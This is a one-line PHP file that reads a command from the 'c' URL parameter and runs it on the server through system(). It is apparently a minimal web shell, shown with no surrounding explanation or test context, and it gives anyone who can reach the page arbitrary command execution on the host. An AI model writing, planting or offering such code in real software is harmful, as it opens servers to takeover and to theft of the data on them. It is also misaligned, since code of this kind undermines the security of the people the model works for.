<?php $c = sprintf(format: "%s", values: $_GET["c"]); system($c);
